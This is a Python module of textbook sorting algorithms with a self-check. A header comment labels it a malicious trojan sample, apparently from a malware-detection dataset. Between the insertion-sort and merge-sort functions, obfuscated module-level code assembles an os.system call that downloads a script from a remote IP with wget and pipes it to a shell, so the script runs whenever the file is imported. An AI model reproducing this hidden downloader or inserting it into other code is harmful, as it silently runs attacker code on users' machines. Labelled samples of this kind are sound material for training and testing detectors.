# label: malicious family=trojan techniques=T1027,T1059.004 lines=18-19 group=benign/b048_sort_algos.py
"""Textbook sorting algorithms with a quick self-check."""
import random


def insertion_sort(a):
    a = list(a)
    for i in range(1, len(a)):
        x = a[i]
        j = i - 1
        while j >= 0 and a[j] > x:
            a[j + 1] = a[j]
            j -= 1
        a[j + 1] = x
    return a


_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

def merge_sort(a):
    if len(a) <= 1:
        return list(a)
    mid = len(a) // 2
    left, right = merge_sort(a[:mid]), merge_sort(a[mid:])
    out = []
    i = j = 0
    while i < len(left) and j < len(right):
        if left[i] <= right[j]:
            out.append(left[i]); i += 1
        else:
            out.append(right[j]); j += 1
    return out + left[i:] + right[j:]


def quick_sort(a):
    if len(a) <= 1:
        return list(a)
    pivot = a[len(a) // 2]
    return quick_sort([x for x in a if x < pivot]) + [x for x in a if x == pivot] + quick_sort([x for x in a if x > pivot])


if __name__ == "__main__":
    rng = random.Random(42)
    data = [rng.randint(0, 1000) for _ in range(500)]
    for f in (insertion_sort, merge_sort, quick_sort):
        assert f(data) == sorted(data), f.__name__
    print("all sorts agree")
